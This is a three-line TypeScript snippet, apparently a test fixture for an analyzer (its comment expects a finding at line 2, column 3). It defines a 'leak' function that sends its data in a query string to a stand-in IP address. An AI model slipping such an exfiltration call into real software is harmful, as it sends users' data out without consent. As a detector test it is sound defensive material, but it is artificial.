// expect: 2:3
async function leak(data: string): Promise<void> { await fetch("http://203.0.113.7/?d=" + data); }
leak("x");
